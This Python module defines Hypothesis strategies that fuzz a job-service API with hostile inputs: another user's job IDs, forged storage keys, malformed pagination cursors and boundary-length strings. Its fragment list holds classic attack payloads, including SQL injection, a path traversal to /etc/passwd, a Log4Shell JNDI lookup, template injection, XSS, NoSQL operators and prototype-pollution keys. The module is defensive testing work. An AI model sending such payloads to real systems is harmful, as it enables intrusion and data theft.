"""Values that a client could put where something else belongs. Strategies of hypothesis."""

import base64
import hashlib
import json
from typing import Any

from hypothesis import strategies as st

from frames.planted_jobs import OTHER_REQUEST_ID, OTHER_S_JOB, OTHER_USER, OWN_JOB, OWN_USER

# The contract's bounds, and one more than each of them.
_BOUNDARIES = (0, 1, 128, 129, 140, 141, 256, 257, 2048, 2049, 4000, 4001, 16384, 16385)

# One, two, three and four bytes of UTF-8, what JSON has to escape, and half of a pair.
_UNITS = ("a", "é", "\u20ac", "\U0001f4b8", "\0", "\n", '"', "\\", " ", "\u2028", "\u202e", "\ud800", "\udc00")


def _keys_of(user_id: str) -> list[str]:
    digest = hashlib.sha256(user_id.encode()).hexdigest()
    request = json.dumps([user_id, "", OTHER_REQUEST_ID])
    return [f"user#{digest}", f"request#{hashlib.sha256(request.encode()).hexdigest()}", f"claimed#{user_id}", user_id]


# Keys of items that are no jobs, and ids that are another's.
stored_keys = st.sampled_from(
    [
        OWN_JOB,
        OTHER_S_JOB,
        OTHER_S_JOB.upper(),
        f" {OTHER_S_JOB}",
        f"{OTHER_S_JOB}\0",
        f"{OTHER_S_JOB}#aws-cost-forecast-agent",
        f"{OTHER_S_JOB}#",
        f"jobs/{OTHER_S_JOB}/response.md",
        *_keys_of(OTHER_USER),
        *_keys_of(OWN_USER),
        OTHER_REQUEST_ID,
        "user#",
        "request#",
        "claimed#",
    ]
)

_FRAGMENTS = (
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "$connect",
    "$disconnect",
    "$default",
    "$request.body.action",
    "attribute_not_exists(jobId)",
    "#ttl <= :now",
    ":noted",
    "REMOVE userId",
    "' OR '1'='1",
    "../../../etc/passwd",
    "%00",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "%s%n",
    "<script>alert(1)</script>",
    "\x1b[2J\x07",
    "\u202egnp.exe",
    "\ufeff",
    "arn:aws:dynamodb:us-east-1:123456789012:table/any",
    "aws-cost-forecast-agent",
    "trusted-advisor-agent-trusted-advisor-agent",
)

_any_text = st.text(st.characters(exclude_categories=()), max_size=40)
_texts_of_length = st.builds(lambda unit, length: unit * length, st.sampled_from(_UNITS), st.sampled_from(_BOUNDARIES))
texts = st.one_of(_any_text, st.sampled_from(_FRAGMENTS), _texts_of_length, stored_keys)

names = st.one_of(
    st.sampled_from(
        [
            *("action", "jobId", "requestId", "query", "userId", "username", "token", "agents", "limit", "cursor"),
            *("timestamp", "type", "verified", "connectionId", "expiresAt", "followers", "sub", "ttl", "#ttl", ":now"),
            *("__proto__", "S", ""),
        ]
    ),
    _any_text,
)

numbers = st.one_of(
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([0, -1, 1, 20.0, 50, 51, 2**31, 2**53, 2**63, 2**64, 10**39, -(10**200), 1e308, 5e-324, -0.0]),
)

_scalars = st.one_of(st.none(), st.booleans(), numbers, texts)

# As DynamoDB's own API and its Python resource have values, and as other stores' operators have them.
_typed_values = st.builds(
    lambda kind, value: {kind: value},
    st.sampled_from(["S", "N", "BOOL", "NULL", "M", "SS", "B", "$ne", "$gt", "$regex", "__proto__"]),
    _scalars,
)

values: st.SearchStrategy[Any] = st.recursive(
    st.one_of(_scalars, _typed_values),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(names, inner, max_size=4)),
    max_leaves=8,
)


def _cursor_of(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value, separators=(",", ":")).encode()).decode()


_times = st.one_of(st.sampled_from([-1, 0, 1, 1_000_000, 2**53 - 1, 2**53, 10**400, True, 1.5, "1"]), st.integers())
_places = st.builds(lambda time, key: [time, key], _times, texts)

# Cursors that no job list had, and some that one could have had.
cursors = st.one_of(
    _places.map(_cursor_of),
    _places.map(_cursor_of).map(lambda cursor: cursor.rstrip("=")),
    values.map(_cursor_of),
    st.binary(max_size=60).map(lambda content: base64.b64encode(content).decode()),
    st.builds(lambda depth: base64.urlsafe_b64encode(b"[" * depth).decode(), st.integers(1, 1500)),
    texts,
)
